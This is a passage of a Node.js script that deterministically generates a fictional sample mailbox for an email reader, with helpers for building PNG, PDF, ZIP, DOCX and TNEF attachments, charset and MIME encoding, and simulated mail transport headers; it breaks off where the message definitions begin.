// The sample mailbox that ships with Mailscope: a fictional finance/operations shared mailbox
// (invoices@contoso.example) stored as a Dovecot-style Maildir++ tree in resources/sample-mailbox/.
// It lets a new user open the app with no account at all and see everything the reader handles:
// folders nested with "." and an international name in IMAP modified UTF-7, plain and HTML mail,
// remote images that stay blocked until asked, cid: inline images, nested multipart, PDF/ZIP/CSV
// attachments, a calendar invite, ISO-8859-1 / Windows-1252 / ISO-2022-JP / UTF-8 (RTL, emoji)
// text, a bounce, winmail.dat, and hostile HTML and file names that the app must neutralise.
// Every byte is written by this script: fixed dates, fixed boundaries, no randomness, so running
// `node scripts/make-sample-mailbox.mjs` twice gives identical files. Messages use CRLF; file
// names use "!" instead of ":" before "2," (":" is illegal on Windows) and carry ",S=<size>".
// All people, companies, hosts and addresses are fictional (*.example, *.invalid, documentation IPs).

import { createHash } from 'node:crypto';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import iconv from 'iconv-lite';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..', 'resources', 'sample-mailbox');
const CRLF = '\r\n';

// ---------------------------------------------------------------------------------------------
// Small byte-level helpers
// ---------------------------------------------------------------------------------------------

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

function crc32(buf) {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function adler32(buf) {
  let a = 1;
  let b = 0;
  for (const x of buf) {
    a = (a + x) % 65521;
    b = (b + a) % 65521;
  }
  return ((b << 16) | a) >>> 0;
}

const sha256 = (s) => createHash('sha256').update(s).digest();
const hex = (s, n) => sha256(s).toString('hex').slice(0, n);
const u16 = (n) => Buffer.from([n & 0xff, (n >>> 8) & 0xff]);
const u32 = (n) => Buffer.from([n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff]);
const u32be = (n) => Buffer.from([(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff]);

function guid(seed) {
  const h = hex(seed, 32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

/** A zlib stream made of stored (uncompressed) blocks: identical bytes on every zlib version. */
function zlibStored(data) {
  const parts = [Buffer.from([0x78, 0x01])];
  for (let off = 0; off < data.length || off === 0; off += 65535) {
    const chunk = data.subarray(off, off + 65535);
    const last = off + 65535 >= data.length ? 1 : 0;
    parts.push(Buffer.from([last]), u16(chunk.length), u16(~chunk.length & 0xffff), chunk);
    if (last) break;
  }
  parts.push(u32be(adler32(data)));
  return Buffer.concat(parts);
}

// ---------------------------------------------------------------------------------------------
// Generated binary attachments: PNG, PDF, ZIP, DOCX, TNEF, a fake executable
// ---------------------------------------------------------------------------------------------

function png(width, height, pixel) {
  const raw = Buffer.alloc((width * 4 + 1) * height);
  for (let y = 0; y < height; y++) {
    raw[y * (width * 4 + 1)] = 0; // filter: none
    for (let x = 0; x < width; x++) {
      const [r, g, b, a] = pixel(x, y);
      raw.set([r, g, b, a], y * (width * 4 + 1) + 1 + x * 4);
    }
  }
  const chunk = (type, data) => {
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    return Buffer.concat([u32be(data.length), td, u32be(crc32(td))]);
  };
  const ihdr = Buffer.concat([u32be(width), u32be(height), Buffer.from([8, 6, 0, 0, 0])]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', zlibStored(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** 16x16 rounded square with a white glyph: "C" for Contoso, "N" for Northwind. */
function logo(glyph, [r, g, b]) {
  return png(16, 16, (x, y) => {
    const cx = Math.min(x, 15 - x);
    const cy = Math.min(y, 15 - y);
    if (cx + cy < 2) return [0, 0, 0, 0]; // rounded corners
    let white = false;
    if (glyph === 'C') {
      const dx = x - 7.5;
      const dy = y - 7.5;
      const d = Math.sqrt(dx * dx + dy * dy);
      white = d >= 3 && d <= 5.3 && !(dx > 0 && Math.abs(dy) < 2.2);
    } else {
      const inRows = y >= 4 && y <= 11;
      white = inRows && (x === 4 || x === 5 || x === 10 || x === 11 || (x <= 11 && (x === y || x === y + 1)));
    }
    return white ? [255, 255, 255, 255] : [r, g, b, 255];
  });
}

const CONTOSO_LOGO = logo('C', [0x0f, 0x6c, 0xbd]);
const NORTHWIND_LOGO = logo('N', [0x10, 0x7c, 0x41]);

/** A one-page PDF 1.4 with Helvetica text and a correct xref table. */
function pdf(title, lines) {
  const esc = (s) => s.replace(/[\\()]/g, (c) => '\\' + c);
  let content = `BT\n/F1 20 Tf\n72 770 Td\n(${esc(title)}) Tj\n/F1 11 Tf\n`;
  for (const [i, line] of lines.entries()) content += `0 ${i === 0 ? -36 : -16} Td\n(${esc(line)}) Tj\n`;
  content += 'ET\n0.06 0.42 0.74 RG\n2 w\n72 790 m 523 790 l S\n';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}endstream`,
    `<< /Title (${esc(title)}) /Producer (Mailscope sample generator) /CreationDate (D:20260908090000Z) >>`,
  ];
  let out = Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  const offsets = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out = Buffer.concat([out, Buffer.from(`${i + 1} 0 obj\n${body}\nendobj\n`, 'latin1')]);
  });
  const xrefAt = out.length;
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) xref += `${String(o).padStart(10, '0')} 00000 n \n`;
  xref += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([out, Buffer.from(xref, 'latin1')]);
}

function invoicePdf({ number, from, date, due, lines, total }) {
  return pdf(`Invoice ${number}`, [
    from,
    `Invoice date: ${date}    Due date: ${due}`,
    'Bill to: Contoso Ltd, Accounts Payable, invoices@contoso.example',
    '',
    ...lines,
    '',
    `Total due: ${total}`,
    'Please quote the invoice number with your payment.',
  ]);
}

/** A zip with stored (method 0) entries, real CRC-32s and a fixed DOS timestamp. */
function zip(entries, when = { y: 2026, mo: 10, d: 1, h: 9, mi: 30, s: 0 }) {
  const dosTime = (when.h << 11) | (when.mi << 5) | (when.s >> 1);
  const dosDate = ((when.y - 1980) << 9) | (when.mo << 5) | when.d;
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const { name, data } of entries) {
    const nameBuf = Buffer.from(name, 'utf8');
    const crc = crc32(data);
    const common = Buffer.concat([
      u16(0), // flags
      u16(0), // method: stored
      u16(dosTime),
      u16(dosDate),
      u32(crc),
      u32(data.length),
      u32(data.length),
      u16(nameBuf.length),
      u16(0), // extra length
    ]);
    const local = Buffer.concat([u32(0x04034b50), u16(10), common, nameBuf, data]);
    centrals.push(
      Buffer.concat([
        u32(0x02014b50),
        u16(20),
        u16(10),
        common,
        u16(0),
        u16(0),
        u16(0),
        u32(0),
        u32(offset),
        nameBuf,
      ]),
    );
    locals.push(local);
    offset += local.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.concat([
    u32(0x06054b50),
    u16(0),
    u16(0),
    u16(entries.length),
    u16(entries.length),
    u32(cd.length),
    u32(offset),
    u16(0),
  ]);
  return Buffer.concat([...locals, cd, eocd]);
}

const crlfText = (s) => s.replace(/\r?\n/g, CRLF);

function docx(paragraphs) {
  const xml = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  const body = paragraphs
    .map((p) => `<w:p><w:r><w:t xml:space="preserve">${xml(p)}</w:t></w:r></w:p>`)
    .join('');
  return zip(
    [
      {
        name: '[Content_Types].xml',
        data: Buffer.from(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' +
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
            '<Default Extension="xml" ContentType="application/xml"/>' +
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
            '</Types>',
        ),
      },
      {
        name: '_rels/.rels',
        data: Buffer.from(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' +
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
            '</Relationships>',
        ),
      },
      {
        name: 'word/document.xml',
        data: Buffer.from(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' +
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
            `<w:body>${body}</w:body></w:document>`,
        ),
      },
    ],
    { y: 2026, mo: 10, d: 16, h: 10, mi: 2, s: 0 },
  );
}

/** A short TNEF stream (winmail.dat): signature, key, and three level-1 attributes. */
function tnef() {
  const attr = (id, data) => {
    let sum = 0;
    for (const b of data) sum = (sum + b) & 0xffff;
    return Buffer.concat([Buffer.from([0x01]), u32(id), u32(data.length), data, u16(sum)]);
  };
  return Buffer.concat([
    Buffer.from([0x78, 0x9f, 0x3e, 0x22]), // TNEF signature 0x223E9F78
    u16(0x0001), // legacy key
    attr(0x00089006, Buffer.from([0x00, 0x00, 0x01, 0x00])), // attTnefVersion
    attr(0x00069007, Buffer.from([0xe4, 0x04, 0, 0, 0, 0, 0, 0])), // attOemCodepage 1252
    attr(0x00078008, Buffer.from('IPM.Microsoft Mail.Note\0', 'latin1')), // attMessageClass
    attr(0x00018004, Buffer.from('RE: Purchase order PO-7731 - revised quantities\0', 'latin1')), // attSubject
  ]);
}

/** Not a program: an MZ-looking stub so the file type looks like what the name claims. */
const FAKE_EXE = Buffer.concat([
  Buffer.from([
    0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00,
  ]),
  Buffer.from('This program cannot be run in DOS mode.\r\r\n$\n', 'latin1'),
  Buffer.from('[Mailscope sample data: not an executable, contains no code]\n', 'latin1'),
]);

// ---------------------------------------------------------------------------------------------
// Text encodings
// ---------------------------------------------------------------------------------------------

/** ISO-2022-JP (RFC 1468) from EUC-JP: JIS X 0208 bytes are EUC-JP bytes with the top bit cleared. */
function iso2022jp(str) {
  const out = [];
  let jis = false;
  for (const ch of str) {
    const cp = ch.codePointAt(0);
    if (cp < 0x80) {
      if (jis) out.push(0x1b, 0x28, 0x42); // ESC ( B
      jis = false;
      out.push(cp);
      continue;
    }
    const e = iconv.encode(ch, 'eucjp');
    if (e.length !== 2 || e[0] < 0xa1 || e[0] > 0xf4 || e[0] === 0xad || e[1] < 0xa1 || e[1] > 0xfe) {
      throw new Error(`not in JIS X 0208: ${ch}`);
    }
    if (!jis) out.push(0x1b, 0x24, 0x42); // ESC $ B
    jis = true;
    out.push(e[0] & 0x7f, e[1] & 0x7f);
  }
  if (jis) out.push(0x1b, 0x28, 0x42);
  return Buffer.from(out);
}

function encode(str, charset) {
  const cs = charset.toLowerCase();
  if (cs === 'utf-8' || cs === 'us-ascii') return Buffer.from(str, 'utf8');
  if (cs === 'iso-2022-jp') return iso2022jp(str);
  const buf = iconv.encode(str, cs);
  if (iconv.decode(buf, cs) !== str)
    throw new Error(`text not representable in ${charset}: ${str.slice(0, 40)}`);
  return buf;
}

/** Modified UTF-7 (RFC 3501 §5.1.3), as Dovecot stores folder names in Maildir++. */
function mutf7(name) {
  let out = '';
  let pending = [];
  const flush = () => {
    if (!pending.length) return;
    const b = Buffer.alloc(pending.length * 2);
    pending.forEach((u, i) => b.writeUInt16BE(u, i * 2));
    out += '&' + b.toString('base64').replace(/=+$/, '').replace(/\//g, ',') + '-';
    pending = [];
  };
  for (let i = 0; i < name.length; i++) {
    const c = name.charCodeAt(i);
    if (c >= 0x20 && c <= 0x7e) {
      flush();
      out += c === 0x26 ? '&-' : name[i];
    } else pending.push(c);
  }
  flush();
  return out;
}

function base64Lines(buf) {
  const s = buf.toString('base64');
  let out = '';
  for (let i = 0; i < s.length; i += 76) out += s.slice(i, i + 76) + CRLF;
  return out;
}

/** Quoted-printable (RFC 2045 §6.7) of text bytes whose lines end in LF or CRLF. */
function quotedPrintable(buf) {
  const lines = [];
  let start = 0;
  for (let i = 0; i <= buf.length; i++) {
    if (i === buf.length || buf[i] === 0x0a) {
      let end = i;
      if (end > start && buf[end - 1] === 0x0d) end--;
      if (!(i === buf.length && start === i)) lines.push(buf.subarray(start, end));
      start = i + 1;
    }
  }
  let out = '';
  for (const line of lines) {
    const tokens = [];
    line.forEach((b, j) => {
      const last = j === line.length - 1;
      const literal = (b >= 33 && b <= 126 && b !== 61) || ((b === 32 || b === 9) && !last);
      tokens.push(literal ? String.fromCharCode(b) : '=' + b.toString(16).toUpperCase().padStart(2, '0'));
    });
    let cur = '';
    for (const t of tokens) {
      if (cur.length + t.length > 75) {
        out += cur + '=' + CRLF;
        cur = '';
      }
      cur += t;
    }
    out += cur + CRLF;
  }
  return out;
}

/** RFC 2047 encoded words, each at most 75 characters; space-separated so header folding can split them. */
function encodedWords(text, charset, mode = 'B') {
  const prefix = `=?${charset}?${mode}?`;
  // RFC 2047 §2: a line holding encoded words stays within 76 characters, "Subject: " included.
  const room = 66 - prefix.length - 2;
  const chars = [...text];
  const words = [];
  const encodeChunk = (chunk) => {
    const bytes = encode(chunk, charset);
    if (mode === 'B') return bytes.toString('base64');
    let q = '';
    for (const b of bytes) {
      if (b === 32) q += '_';
      else if (
        (b >= 48 && b <= 57) ||
        (b >= 65 && b <= 90) ||
        (b >= 97 && b <= 122) ||
        "!*+-/.,:;()'".includes(String.fromCharCode(b))
      )
        q += String.fromCharCode(b);
      else q += '=' + b.toString(16).toUpperCase().padStart(2, '0');
    }
    return q;
  };
  let chunk = '';
  for (const ch of chars) {
    if (chunk && encodeChunk(chunk + ch).length > room) {
      // Prefer to split after a space, so each encoded word holds whole words.
      const cut = chunk.lastIndexOf(' ') + 1;
      const keep = cut > 0 && encodeChunk(chunk.slice(cut) + ch).length <= room ? cut : chunk.length;
      words.push(prefix + encodeChunk(chunk.slice(0, keep)) + '?=');
      chunk = chunk.slice(keep);
    }
    chunk += ch;
  }
  if (chunk) words.push(prefix + encodeChunk(chunk) + '?=');
  return words.join(' ');
}

const isAscii = (s) => /^[\x20-\x7e]*$/.test(s);

/** "Name <addr>", with the display name quoted or encoded as needed. */
function addr(name, email, charset = 'utf-8', mode = 'B') {
  if (!name) return email;
  if (!isAscii(name)) return `${encodedWords(name, charset, mode)} <${email}>`;
  return /[^\w !#$%&'*+/=?^`{|}~-]/.test(name)
    ? `"${name.replace(/["\\]/g, '\\$&')}" <${email}>`
    : `${name} <${email}>`;
}

/** Fold a header field at existing spaces so that lines stay within 78 characters. */
function header(name, value) {
  if (value === '') return `${name}:`;
  if (value.includes(CRLF)) return `${name}: ${value}`;
  const words = value.split(' ');
  const lines = [];
  const limit = value.includes('=?') ? 76 : 78;
  let cur = `${name}:`;
  for (const w of words) {
    if (cur.length + 1 + w.length > limit && cur.trim().length > name.length + 1) {
      lines.push(cur);
      cur = '';
    }
    cur += ' ' + w;
  }
  lines.push(cur);
  return lines.join(CRLF);
}

// ---------------------------------------------------------------------------------------------
// Dates
// ---------------------------------------------------------------------------------------------

const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** "2026-09-08T09:12:33+02:00" -> { ts, offset: "+0200" } */
function when(iso) {
  const m = /([+-])(\d\d):(\d\d)$/.exec(iso);
  const ms = Date.parse(iso);
  if (!m || Number.isNaN(ms)) throw new Error(`bad date ${iso}`);
  return { ts: ms / 1000, offset: `${m[1]}${m[2]}${m[3]}` };
}

function rfcDate(ts, offset = '+0000') {
  const sign = offset[0] === '-' ? -1 : 1;
  const mins = sign * (Number(offset.slice(1, 3)) * 60 + Number(offset.slice(3, 5)));
  const d = new Date((ts + mins * 60) * 1000);
  const p = (n) => String(n).padStart(2, '0');
  return (
    `${DAYS[d.getUTCDay()]}, ${d.getUTCDate()} ${MONTHS[d.getUTCMonth()]} ${d.getUTCFullYear()} ` +
    `${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} ${offset}`
  );
}

function exoTime(ts, frac) {
  const d = new Date(ts * 1000);
  const p = (n) => String(n).padStart(2, '0');
  return `${d.getUTCDate()} ${MONTHS[d.getUTCMonth()]} ${d.getUTCFullYear()} ${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())}.${frac} (UTC)`;
}

// ---------------------------------------------------------------------------------------------
// MIME tree
// ---------------------------------------------------------------------------------------------

/** A text leaf. `text` uses "\n"; it becomes CRLF before encoding. */
function text(subtype, body, { charset = 'utf-8', cte = 'quoted-printable', headers = [], format } = {}) {
  const fmt = format ? `; format=${format}` : '';
  return {
    ct: `text/${subtype}; charset="${charset}"${fmt}`,
    cte,
    headers,
    // format=flowed (RFC 3676 §4.4): space-stuff lines that start with a space or "From ".
    data: encode(crlfText(format === 'flowed' ? body.replace(/^( |From )/gm, ' $1') : body), charset),
  };
}

function dispositionParams(kind, filename) {
  if (isAscii(filename)) return `${kind}; filename="${filename}"`;
  const pct = [...Buffer.from(filename, 'utf8')]
    .map((b) =>
      /[A-Za-z0-9._-]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : '%' + b.toString(16).toUpperCase(),
    )
    .join('');
  return `${kind}; filename*=utf-8''${pct}`;
}

function nameParam(filename) {
  return isAscii(filename) ? `name="${filename}"` : `name="${encodedWords(filename, 'utf-8', 'B')}"`;
}

/** A file part: base64, with name and filename parameters. */
function file(
  filename,
  mime,
  data,
  { inline = false, cid, extraCt = '', cte = 'base64', size = false } = {},
) {
  const headers = [];
  if (cid) headers.push(['Content-ID', `<${cid}>`]);
  headers.push([
    'Content-Disposition',
    dispositionParams(inline ? 'inline' : 'attachment', filename) + (size ? `; size=${data.length}` : ''),
  ]);
  return { ct: `${mime}${extraCt}; ${nameParam(filename)}`, cte, headers, data };
}

function multi(subtype, parts, { params = '', preamble, headers = [] } = {}) {
  return { ct: `multipart/${subtype}${params}`, parts, preamble, headers };
}

/** An embedded message (message/rfc822 or message/delivery-status ...). */
function embedded(mime, data, headers = []) {
  return { ct: mime, cte: '7bit', headers, data, raw: true };
}

function encodeBody(node) {
  switch (node.cte) {
    case 'base64':
      return base64Lines(node.data);
    case 'quoted-printable':
      return quotedPrintable(node.data);
    case '7bit':
    case '8bit': {
      if (node.cte === '7bit' && node.data.some((b) => b > 0x7f)) throw new Error('8-bit data in 7bit part');
      const s = node.data.toString('latin1');
      return s.endsWith(CRLF) ? s : s + CRLF;
    }
    default:
      throw new Error(`unknown CTE ${node.cte}`);
  }
}

/** Serialise a MIME node to { headerLines, body } as latin1 strings (one char per byte). */
function serialise(node, ctx, depth = 0) {
  if (node.parts) {
    const b = ctx.boundary(depth, ctx.counter++);
    let body = node.preamble ? node.preamble + CRLF : '';
    for (const part of node.parts) {
      const s = serialise(part, ctx, depth + 1);
      body += `--${b}${CRLF}${s.headerLines.join(CRLF)}${CRLF}${CRLF}${s.body}${CRLF}`;
    }
    body += `--${b}--${CRLF}`;
    return {
      headerLines: [
        header('Content-Type', `${node.ct}; boundary="${b}"`),
        ...node.headers.map(([k, v]) => header(k, v)),
      ],
      body,
    };
  }
  const headerLines = [header('Content-Type', node.ct)];
  headerLines.push(header('Content-Transfer-Encoding', node.cte));
  for (const [k, v] of node.headers) headerLines.push(header(k, v));
  return { headerLines, body: encodeBody(node) };
}

const BOUNDARY_STYLES = {
  exchange: (tag) => (depth, n) => `_00${n}_${tag}_`,
  java: (tag) => (depth, n) => `----=_Part_${n}_${tag}`,
  mailer: (tag) => (depth, n) => `=_mailer_${tag}_${depth}${n}`,
  apple: (tag) => (depth, n) => `Apple-Mail=_${tag.slice(0, 8)}-${n}A2B-4C3D-9E8F-${tag.slice(8, 20)}`,
};

// ---------------------------------------------------------------------------------------------
// Transport headers (Received chains, authentication, Exchange Online stamps)
// ---------------------------------------------------------------------------------------------

const TENANT_ID = guid('contoso tenant');
const MAILBOX_SERVER = 'AM0PR10MB1234.eurprd10.prod.outlook.example';
const HUB_SERVER = 'DB9PR10MB5678.eurprd10.prod.outlook.example';
const EOP = [
  'DB1PEPF000509F0.eurprd03.prod.outlook.example',
  'AMS0EPF00000198.eurprd05.prod.outlook.example',
];
const EOP_IP = ['2001:db8:30:9f0::1', '2001:db8:31:198::1'];
const TLS13 = '(version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384)';
const TLS12 = '(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)';

/**
 * Headers for mail that reached the tenant from the Internet: a 4- or 5-hop Received chain
 * (newest first), Authentication-Results, and optionally the X-MS-Exchange-* stamps.
 */
function inbound(t, o) {
  const {
    host,
    ip,
    mailfrom,
    headerFrom = mailfrom,
    auth = 'pass',
    origin,
    five = true,
    xms = false,
    attach = false,
    lang = 'en',
  } = o;
  const eopI = Number.parseInt(hex(mailfrom + t, 2), 16) % 2;
  const eop = EOP[eopI];
  const frontend = 'DU2PR04CA0123.eurprd04.prod.outlook.example';
  const r = [];
  r.push(`from ${HUB_SERVER} (2001:db8:10:5678::12) by ${MAILBOX_SERVER} with HTTPS; ${rfcDate(t + 6)}`);
  r.push(
    `from ${frontend} (2001:db8:20:123::45) by ${HUB_SERVER} (2001:db8:10:5678::12) with Microsoft SMTP Server ${TLS12} id 15.20.8901.12; ${rfcDate(t + 5)}`,
  );
  if (five) {
    r.push(
      `from ${eop} (${EOP_IP[eopI]}) by ${frontend} (2001:db8:20:123::45) with Microsoft SMTP Server ${TLS13} id 15.20.8901.12 via Frontend Transport; ${rfcDate(t + 4)}`,
    );
  }
  r.push(
    `from ${host} (${ip}) by ${eop} (10.167.242.74) with Microsoft SMTP Server ${TLS13} id 15.20.8901.12 via Frontend Transport; ${rfcDate(t + 3)}`,
  );
  if (origin) r.push(origin);
  const h = r.map((v) => ['Received', v]);
  const domain = headerFrom;
  let ar;
  if (auth === 'pass') {
    ar = `spf=pass (sender IP is ${ip}) smtp.mailfrom=${mailfrom}; dkim=pass (signature was verified) header.d=${domain};dmarc=pass action=none header.from=${domain};compauth=pass reason=100`;
  } else if (auth === 'nodkim') {
    ar = `spf=pass (sender IP is ${ip}) smtp.mailfrom=${mailfrom}; dkim=none (message not signed) header.d=none;dmarc=pass action=none header.from=${domain};compauth=pass reason=100`;
  } else if (auth === 'weak') {
    ar = `spf=pass (sender IP is ${ip}) smtp.mailfrom=${mailfrom}; dkim=none (message not signed) header.d=none;dmarc=none action=none header.from=${domain};compauth=softpass reason=201`;
  } else {
    ar = `spf=fail (sender IP is ${ip}) smtp.mailfrom=${mailfrom}; dkim=fail (body hash did not verify) header.d=${domain};dmarc=fail action=quarantine header.from=${domain};compauth=fail reason=000`;
  }
  h.push(['Authentication-Results', ar]);
  const spf = auth === 'fail' ? 'Fail' : 'Pass';
  const spfWhy =
    auth === 'fail'
      ? `domain of ${mailfrom} does not designate ${ip} as permitted sender`
      : `domain of ${mailfrom} designates ${ip} as permitted sender`;
  h.push([
    'Received-SPF',
    `${spf} (protection.outlook.example: ${spfWhy}) receiver=protection.outlook.example; client-ip=${ip}; helo=${host}; pr=C`,
  ]);
  const tail = [];
  if (xms) {
    const nmid = guid('nmid' + mailfrom + t);
    const frac = String(1000 + (t % 9000)).slice(0, 4);
    const spam = auth === 'fail';
    tail.push(
      ['X-MS-Exchange-Organization-ExpirationStartTime', exoTime(t + 3, frac)],
      ['X-MS-Exchange-Organization-ExpirationStartTimeReason', 'OriginalSubmit'],
      ['X-MS-Exchange-Organization-ExpirationInterval', '1:00:00:00.0000000'],
      ['X-MS-Exchange-Organization-ExpirationIntervalReason', 'OriginalSubmit'],
      ['X-MS-Exchange-Organization-Network-Message-Id', nmid],
      ['X-EOPAttributedMessage', '0'],
      ['X-EOPTenantAttributedMessage', `${TENANT_ID}:0`],
      ['X-MS-Exchange-Organization-MessageDirectionality', 'Incoming'],
      ['X-MS-PublicTrafficType', 'Email'],
      ['X-MS-Exchange-Organization-AuthSource', eop],
      ['X-MS-Exchange-Organization-AuthAs', 'Anonymous'],
      ['X-MS-Has-Attach', attach ? 'yes' : ''],
      ['X-MS-Exchange-Organization-SCL', spam ? '5' : '1'],
      ['X-Microsoft-Antispam', `BCL:${spam ? 7 : 0};`],
      [
        'X-Forefront-Antispam-Report',
        `CIP:${ip};CTRY:;LANG:${lang};SCL:${spam ? 5 : 1};SRV:;IPV:NLI;SFV:${spam ? 'SPM' : 'NSPM'};H:${host};PTR:${host};CAT:${spam ? 'SPM' : 'NONE'};SFS:;DIR:INB;`,
      ],
      ['X-MS-Exchange-CrossTenant-OriginalArrivalTime', exoTime(t + 3, frac)],
      ['X-MS-Exchange-CrossTenant-Network-Message-Id', nmid],
      ['X-MS-Exchange-CrossTenant-Id', TENANT_ID],
      ['X-MS-Exchange-CrossTenant-AuthSource', eop],
      ['X-MS-Exchange-CrossTenant-AuthAs', 'Anonymous'],
      ['X-MS-Exchange-CrossTenant-FromEntityHeader', 'Internet'],
      ['X-MS-Exchange-Transport-CrossTenantHeadersStamped', 'AM0PR10MB1234'],
      ['X-MS-Exchange-Transport-EndToEndLatency', '00:00:06.1234567'],
      ['X-MS-Exchange-Processed-By-BccFoldering', '15.20.8901.010'],
    );
    if (spam)
      tail.push([
        'X-MS-Exchange-Organization-Antispam-Report',
        'SFV:SPM;SFS:;DIR:INB;SFP:;SCL:5;SRVR:AM0PR10MB1234;',
      ]);
  }
  return { head: h, tail };
}

/** Headers for mail from a colleague in the same tenant: three hops, no DKIM (internal). */
function internal(t, { sender, xms = false }) {
  const mbx = `AM0PR10MB${4000 + (Number.parseInt(hex(sender, 3), 16) % 900)}.eurprd10.prod.outlook.example`;
  const head = [
    [
      'Received',
      `from ${HUB_SERVER} (2001:db8:10:5678::12) by ${MAILBOX_SERVER} with HTTPS; ${rfcDate(t + 2)}`,
    ],
    [
      'Received',
      `from ${mbx} (2001:db8:10:4${hex(sender, 3)}::7) by ${HUB_SERVER} (2001:db8:10:5678::12) with Microsoft SMTP Server ${TLS12} id 15.20.8901.12; ${rfcDate(t + 1)}`,
    ],
    [
      'Received',
      `from ${mbx} ([fe80::${hex(sender + 'll', 4)}:${hex(sender + 'l2', 4)}]) by ${mbx} ([fe80::${hex(sender + 'll', 4)}:${hex(sender + 'l2', 4)}%5]) with mapi id 15.20.8901.012; ${rfcDate(t)}`,
    ],
    [
      'Authentication-Results',
      'dkim=none (message not signed) header.d=none;dmarc=none action=none header.from=contoso.example;',
    ],
  ];
  const tail = [];
  if (xms) {
    tail.push(
      ['X-MS-Exchange-Organization-AuthAs', 'Internal'],
      ['X-MS-Exchange-Organization-AuthMechanism', '04'],
      ['X-MS-Exchange-Organization-AuthSource', mbx],
      ['X-MS-Exchange-Organization-Network-Message-Id', guid('int' + sender + t)],
      ['X-MS-Exchange-Organization-SCL', '-1'],
      ['X-MS-Exchange-CrossTenant-Id', TENANT_ID],
      ['X-MS-Exchange-CrossTenant-FromEntityHeader', 'Hosted'],
      ['X-MS-Exchange-Transport-CrossTenantHeadersStamped', 'AM0PR10MB1234'],
    );
  }
  return { head, tail };
}

/** DKIM-Signature with a real simple-canonicalised body hash and a fixed, fake signature. */
function dkimSignature(
  d,
  s,
  body,
  seed,
  signed = 'from:to:subject:date:message-id:mime-version:content-type',
) {
  let canon = body;
  while (canon.endsWith(CRLF + CRLF)) canon = canon.slice(0, -2);
  if (!canon.endsWith(CRLF)) canon += CRLF;
  const bh = sha256(Buffer.from(canon, 'latin1')).toString('base64');
  const sigBytes = Buffer.concat([0, 1, 2, 3, 4, 5, 6, 7].map((i) => sha256(`${seed}:${i}`)));
  const b = sigBytes
    .toString('base64')
    .match(/.{1,72}/g)
    .join(' ');
  return `v=1; a=rsa-sha256; c=relaxed/simple; d=${d}; s=${s}; h=${signed}; bh=${bh}; b=${b}`;
}

// ---------------------------------------------------------------------------------------------
// Messages
// ---------------------------------------------------------------------------------------------

const MAILBOX = addr('Contoso Invoices', 'invoices@contoso.example');
const P = {
  priya: ['Priya Raman', 'priya.raman@contoso.example'],
  jonas: ['Jonas Keller', 'jonas.keller@contoso.example'],
  david: ['David Okafor', 'david.okafor@contoso.example'],
  mei: ['Mei Chen', 'mei.chen@contoso.example'],
  tomas: ['Tomás Ortega', 'tomas.ortega@contoso.example'],
  aiko: ['田中 愛子', 'aiko.tanaka@jp.contoso.example'],
